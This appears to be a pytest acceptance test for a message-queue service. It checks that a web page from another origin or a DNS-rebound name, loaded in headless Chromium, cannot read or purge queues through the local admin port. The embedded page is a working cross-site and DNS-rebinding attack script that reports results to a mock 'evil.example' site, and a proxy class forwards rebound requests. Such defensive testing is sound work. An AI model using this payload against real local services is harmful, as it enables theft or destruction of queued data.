"""A real browser: a page of another origin, and one whose name is given the address of the admin port, can neither read nor delete.

What a browser sends and shows to a page is decided by the browser, so Debian's Chromium is run, and the page tries what a page can.
"""

from __future__ import annotations

import contextlib
import json
import os
import signal
import socket
import socketserver
import subprocess
import threading
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Any  # Any: what the page reports is any JSON

import pytest

from acceptance.sender import Sender, transaction
from acceptance.server import Server
from processes import start_process
from tools import tool

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

ACCESS = """
[[access]]
id = "shop"
secret = "SHOP_SECRET"
rights = ["consume"]
queues = ["*"]
"""

PAGE = """<!doctype html><title>page</title><script>
const admin = ADMIN, queue = `${admin}/000000000000/payments`, found = {};
async function attempt(name, url, options) {
  try {
    const answer = await fetch(url, options);
    found[name] = {type: answer.type, status: answer.status, text: await answer.text()};
  } catch (error) { found[name] = {error: String(error)}; }
}
function sqs(action, parameters) {
  const headers = {"Content-Type": "application/x-amz-json-1.0", "X-Amz-Target": `AmazonSQS.${action}`};
  return {method: "POST", body: JSON.stringify({QueueUrl: queue, ...parameters}), headers};
}
function form(action) {
  return {method: "POST", mode: "no-cors", body: new URLSearchParams({Action: action, QueueUrl: queue})};
}
const text = {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"}, body: JSON.stringify({QueueUrl: queue})};
async function run() {
  await attempt("receive", `${admin}/`, sqs("ReceiveMessage", {VisibilityTimeout: 0}));
  await attempt("purge", `${admin}/`, sqs("PurgeQueue", {}));
  await attempt("attributes", `${admin}/`, {credentials: "include", ...sqs("GetQueueAttributes", {AttributeNames: ["All"]})});
  await attempt("form", `${admin}/`, form("ReceiveMessage"));
  await attempt("delete", queue, form("PurgeQueue"));
  await attempt("text", `${admin}/`, text);
  await attempt("ready", `${admin}/ready`, {});
  await attempt("page", `${queue}?Action=ReceiveMessage`, {mode: "no-cors"});
  const image = new Image();
  const loaded = new Promise(resolve => { image.onload = image.onerror = resolve; });
  image.src = queue;
  await loaded;
  await fetch("/report", {method: "POST", body: JSON.stringify(found)});
}
run();
</script>"""


@dataclass(slots=True)
class Site:
    """The attacker's web site. As a name that was rebound, everything but its page and the report goes to the admin port, byte for byte."""

    admin_port: int
    is_rebound: bool
    port: int = 0
    report: dict[str, Any] = field(default_factory=dict)
    reported: threading.Event = field(default_factory=threading.Event)

    def answer(self, connection: socket.socket) -> None:
        """Answer one connection."""
        head, body = _request(connection)
        method, target = head.split(b" ", 2)[:2]
        if target == b"/page":
            admin = "location.origin" if self.is_rebound else json.dumps(f"http://127.0.0.1:{self.admin_port}")
            _send(connection, "text/html", PAGE.replace("ADMIN", admin, 1))
        elif (method, target) == (b"POST", b"/report"):
            self.report = json.loads(body)
            _send(connection, "text/plain", "thank you")
            self.reported.set()
        elif self.is_rebound:
            with socket.create_connection(("127.0.0.1", self.admin_port), timeout=20) as admin_port:
                lines = [line for line in head.split(b"\r\n") if not line.lower().startswith(b"connection:")]
                admin_port.sendall(b"\r\n".join([*lines, b"Connection: close", b"", b""]) + body)
                while part := admin_port.recv(65536):
                    connection.sendall(part)
        else:
            _send(connection, "text/plain", "nothing")


def _request(connection: socket.socket) -> tuple[bytes, bytes]:
    received = b""
    while b"\r\n\r\n" not in received:
        part = connection.recv(65536)
        if not part:
            return b"GET /nothing HTTP/1.1", b""
        received += part
    head, _, body = received.partition(b"\r\n\r\n")
    length = next((int(line[15:]) for line in head.split(b"\r\n") if line.lower().startswith(b"content-length:")), 0)
    while len(body) < length:
        body += connection.recv(65536)
    return head, body


def _send(connection: socket.socket, media_type: str, text: str) -> None:
    body = text.encode()
    head = f"HTTP/1.1 200 OK\r\nContent-Type: {media_type}\r\nContent-Length: {len(body)}\r\nConnection: close\r\n\r\n"
    connection.sendall(head.encode() + body)


@contextlib.contextmanager
def online(site: Site) -> Iterator[Site]:
    """The site, served on a free port."""

    class Handler(socketserver.BaseRequestHandler):
        def handle(self) -> None:
            with contextlib.suppress(OSError):  # the browser opens connections ahead, and leaves them
                site.answer(self.request)

    class Threads(socketserver.ThreadingTCPServer):
        daemon_threads = True

    with Threads(("127.0.0.1", 0), Handler) as server:
        site.port = server.server_address[1]
        thread = threading.Thread(target=server.serve_forever, args=(0.02,))
        thread.start()
        try:
            yield site
        finally:
            server.shutdown()
            thread.join()


def visit(site: Site, folder: Path) -> dict[str, Any]:
    """What the page could do, in the browser of somebody on this machine who looks at it."""
    words = [
        tool("chromium"), "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run",
        "--disable-background-networking", "--disable-component-update", "--disable-sync", "--no-proxy-server",
        f"--user-data-dir={folder / 'browser'}",
        f"--host-resolver-rules=MAP evil.example 127.0.0.1:{site.port}",
        f"http://evil.example:{site.port}/page",
    ]  # fmt: skip
    process = start_process(words, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    try:
        assert site.reported.wait(120), "the page has not reported"
    finally:
        with contextlib.suppress(ProcessLookupError):
            os.killpg(process.pid, signal.SIGKILL)
        process.wait()
    return site.report


@pytest.mark.parametrize("is_rebound", [False, True], ids=["another origin", "a rebound name"])
@pytest.mark.parametrize("access", ["", ACCESS], ids=["without keys", "with keys"])
def test_a_page_can_neither_read_nor_delete(tmp_path: Path, access: str, *, is_rebound: bool) -> None:
    """An operator who opens a page while hookline runs must not lose a payment by it, nor show it to the page's owner."""
    server = Server(tmp_path, more=access, environment={"SHOP_SECRET": "a-secret-of-enough-length"})
    with server:
        with server.sender() as sender:
            assert sender.post(transaction("evt_private")).status == 202

        with online(Site(admin_port=server.admin_port, is_rebound=is_rebound)) as site:
            found = visit(site, tmp_path)

        rows = server.rows("SELECT count(*) FROM messages WHERE receives = 0")
        refused = {line["code"] for line in server.all("a call to the admin port was refused")}

    assert set(found) == {"receive", "purge", "attributes", "form", "delete", "text", "ready", "page"}
    shown = json.dumps(found)
    assert "evt_private" not in shown
    assert "ApproximateNumberOfMessages" not in shown
    assert "Messages" not in shown
    assert {one.get("status") for name, one in found.items() if name != "ready"} <= {None, 0, 400, 401, 403}
    assert found["ready"].get("text", '{"status":"ready"}') == '{"status":"ready"}'
    assert rows == [(1,)], "the message is there, and nobody has received it"
    assert refused & {"host_unknown", "request_cross_site", "credentials_missing"}, (
        "the page's calls came as far as the port"
    )


def test_a_program_of_this_machine_could(tmp_path: Path) -> None:
    """The same calls without a browser are answered, so the refusals above are for browsers only."""
    with Server(tmp_path) as server, Sender(server.admin_port) as program:
        with server.sender() as sender:
            assert sender.post(transaction("evt_private")).status == 202

        answer = program.sqs("ReceiveMessage", QueueUrl=f"{server.admin}/000000000000/payments")

    assert "evt_private" in json.dumps(answer)
